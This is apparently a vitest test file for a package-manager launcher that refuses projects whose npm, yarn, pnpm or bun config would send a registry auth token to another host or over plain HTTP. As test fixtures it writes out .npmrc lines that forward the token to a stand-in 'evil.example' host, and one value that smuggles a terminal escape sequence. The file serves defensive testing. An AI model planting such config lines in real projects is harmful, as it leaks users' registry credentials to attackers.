import { execFileSync } from 'node:child_process'
import { chmod } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { carryingVariables, tokenVariables } from '../../src/launcher/child-environment.ts'
import type { Tool } from '../../src/launcher/options.ts'
import { checkRoutes } from '../../src/launcher/token-routes.ts'
import { Secret } from '../../src/main/core/infra/secrets/secret.ts'
import { closeAfterwards, startHome } from '../support/practice-story.ts'
import { startHttpServer } from '../support/http-server.ts'
import { hasManager, runManager } from '../support/package-managers.ts'
import type { TestHome } from '../support/plaintext-tokens/home.ts'
import { bare, routeAttacks, type RouteAttack } from '../support/route-attacks.ts'

/** The variables that the launcher gives, and where it says that they may go. */
function carriedOf({ tool, variable }: Pick<RouteAttack, 'tool' | 'variable'>, registry: string, env = {}) {
  const variables = carryingVariables(tool, registry, { variable: variable ?? null })
  return { tool, registry, variables, env }
}

async function startProject(files: Readonly<Record<string, string>>): Promise<TestHome> {
  const home = await startHome()
  await home.write('project/package.json', '{"name":"tried","version":"1.0.0"}')
  for (const [name, text] of Object.entries(files)) await home.write(join('project', name), text)
  return home
}

const check = (home: TestHome, carried: ReturnType<typeof carriedOf>, args: readonly string[] = []) =>
  checkRoutes(home.fs, join(home.path, 'project'), args, carried)

/** A registry that knows nothing, and remembers what it was told. */
async function startListener() {
  const heard: string[] = []
  const server = closeAfterwards(
    await startHttpServer((request, response) => {
      heard.push(JSON.stringify([request.url, request.headers]))
      response.writeHead(404).end('{}')
    }),
  )
  return { url: server.url, heard }
}

describe('a project that would send the token elsewhere', () => {
  it.each(routeAttacks)('is refused: $tool, $what', async (attack) => {
    const [evil, good] = [await startListener(), await startListener()]
    const bound = `npm_config_${bare(good.url)}:_authToken`
    const home = await startProject(attack.files({ evil: evil.url, good: good.url, bound }))
    const carried = carriedOf(attack, good.url)
    const refused = await check(home, carried)
    expect(refused).toMatchObject({ ok: false, failure: { code: 'invalid-request' } })
    const words = refused.ok ? '' : refused.failure.message
    expect(words).toContain(attack.said ?? '')
    expect(words).toContain('Nothing was run.')

    if (!attack.played || !hasManager(attack.played[0])) return
    const [manager, ...args] = attack.played
    const token = 'TheTokenThatTheCommandGets'
    await runManager(manager, args, home.path, {
      ...tokenVariables(attack.tool, good.url, new Secret(token), { variable: null }, null),
      YARN_HTTP_RETRY: '0',
      YARN_ENABLE_IMMUTABLE_INSTALLS: 'false',
      npm_config_fetch_timeout: '5000',
    })
    expect(evil.heard.join('\n'), 'what would have happened').toContain(token)
  })

  it.each([
    ['npm', '.npmrc', 'registry=http://npm.acme.example/\n'],
    ['npm', '.npmrc', '@acme:registry=http://NPM.acme.example:80/\n'],
    ['npm', 'package.json', '{"dependencies":{"a":"http://x@npm.acme.example/a.tgz"}}'],
    ['npm', 'package.json', '{"dependencies":{"a":"\\u0068ttp:\\/\\/npm.acme.example/a.tgz"}}'],
    ['npm', 'package-lock.json', '{"packages":{"a":{"resolved":"http://npm.acme.example/a.tgz"}}}'],
    ['npm', '../package.json', '{"publishConfig":{"registry":"http:npm.acme.example"}}'],
    ['pnpm', 'pnpm-lock.yaml', 'a:\n  resolution: {tarball: http://npm.acme.example/a.tgz}\n'],
    ['bun', 'bun.lock', '["a", "http://npm.acme.example/a.tgz", {}]'],
    ['bun', 'bunfig.toml', '[install.scopes]\nacme = "http://npm.acme.example/"\n'],
  ] as const)('is refused: %s, its registry over plain http in %s', async (tool, name, text) => {
    const home = await startProject({ [name]: text })
    const refused = await check(home, carriedOf({ tool }, 'https://npm.acme.example/'))
    expect(refused).toMatchObject({ failure: { message: expect.stringContaining('without TLS') as string } })
    // Elsewhere npm sends nothing, and a registry that has no TLS at all is the user's choice.
    expect(await check(home, carriedOf({ tool }, 'https://npm.acme.example:8443/'))).toMatchObject({
      ok: true,
    })
    expect(await check(home, carriedOf({ tool }, 'http://npm.acme.example/'))).toMatchObject({ ok: true })
  })

  it.runIf(hasManager('npm'))('would hand npm’s token over without TLS: npm gives it to a host', async () => {
    const { url, heard } = await startListener()
    const home = await startProject({ '.npmrc': `registry=${url}\n` })
    const secure = url.replace('http:', 'https:')
    const variables = tokenVariables('npm', secure, new Secret('TheToken'), { variable: null }, null)
    await runManager('npm', ['whoami'], home.path, { ...variables, npm_config_fetch_retries: '0' })
    expect(heard.join('\n'), 'what would have happened').toContain('TheToken')
    expect(await check(home, carriedOf({ tool: 'npm' }, secure))).toMatchObject({ ok: false })
  })

  it('is refused where a folder or a file is named by the command itself', async () => {
    const home = await startProject({})
    const carried = carriedOf({ tool: 'npm' }, 'https://npm.acme.example/')
    const line = `//evil.example/:_authToken=\${npm_config_//npm.acme.example/:_authToken}\n`
    await home.write('other/.npmrc', line)
    await home.write('rc', line)
    expect(await check(home, carried)).toEqual({ ok: true, value: undefined })
    for (const args of [['--prefix', '../other'], ['--prefix=../other'], ['--userconfig', '../rc']])
      expect(await check(home, carried, args), args.join(' ')).toMatchObject({ ok: false })
  })

  it('is refused where what it says cannot be read', async () => {
    const carried = carriedOf({ tool: 'npm' }, 'https://npm.acme.example/')
    const broken = await startProject({ '.yarnrc.yml': 'a: [\n' })
    expect(await check(broken, carried)).toMatchObject({
      failure: { message: expect.stringContaining('it is not YAML') as string },
    })
    const large = await startProject({ '.npmrc': `; ${'x'.repeat(70_000)}\n` })
    expect(await check(large, carried)).toMatchObject({
      failure: { message: expect.stringContaining('too large') as string },
    })
    const pipe = await startProject({})
    execFileSync('mkfifo', [join(pipe.path, 'project', '.npmrc')])
    expect(await check(pipe, carried)).toMatchObject({
      failure: { message: expect.stringContaining('not an ordinary file') as string },
    })
    if (process.getuid?.() === 0) return
    const closed = await startProject({ '.npmrc': 'fund=false\n' })
    await chmod(join(closed.path, 'project', '.npmrc'), 0)
    expect(await check(closed, carried)).toMatchObject({
      failure: { message: expect.stringContaining('EACCES') as string },
    })
  })

  it('does not get a word of its settings into the terminal as it stands', async () => {
    const home = await startProject({
      '.npmrc': `//evil.example/\u001b[2J:_authToken=\${npm_config_//npm.acme.example/:_authToken}\n`,
    })
    const refused = await check(home, carriedOf({ tool: 'npm' }, 'https://npm.acme.example/'))
    expect(refused.ok ? '' : refused.failure.message).not.toContain('\u001b')
  })
})

describe('a project that sends the token to its registry', () => {
  const acme = 'https://npm.acme.example/'

  it.each<readonly [Tool, Readonly<Record<string, string>>, string | undefined]>([
    [
      'npm',
      { '.npmrc': `@acme:registry=${acme}\n//npm.acme.example/:_authToken=\${NPM_TOKEN}\n` },
      'NPM_TOKEN',
    ],
    ['npm', { '.npmrc': 'registry=https://other.example/\nstrict-ssl=true\n# ${NPM_TOKEN}\n' }, 'NPM_TOKEN'],
    ['npm', { '.npmrc': 'https-proxy=http://proxy.example:8080\n' }, undefined],
    ['npm', { '.npmrc': '//other.example/:_authToken=${OTHER_TOKEN}\n' }, undefined],
    ['npm', { '.npmrc': '//other.example/:_authToken=${NPM_TOKEN_OF_OTHER}\n' }, 'NPM_TOKEN'],
    ['yarn', { '.yarnrc.yml': 'npmAuthToken: "${YARN_NPM_AUTH_TOKEN}"\n' }, undefined],
    ['yarn', { '.yarnrc.yml': `npmScopes:\n  acme:\n    npmRegistryServer: ${acme}\n` }, undefined],
    [
      'yarn',
      {
        '.yarnrc.yml': 'npmScopes:\n  b:\n    npmRegistryServer: https://b.example\n    npmAuthToken: abc\n',
      },
      undefined,
    ],
    ['bun', { 'bunfig.toml': `[install.scopes]\nacme = { url = "https://b.example/" }\n` }, undefined],
    [
      'bun',
      { 'bunfig.toml': `[install.registry]\nurl = "${acme}"\ntoken = "$BUN_CONFIG_TOKEN"\n` },
      undefined,
    ],
  ])('is run: %s, %j', async (tool, files, variable) => {
    const home = await startProject(files)
    expect(await check(home, carriedOf({ tool, ...(variable ? { variable } : {}) }, acme))).toEqual({
      ok: true,
      value: undefined,
    })
  })
})
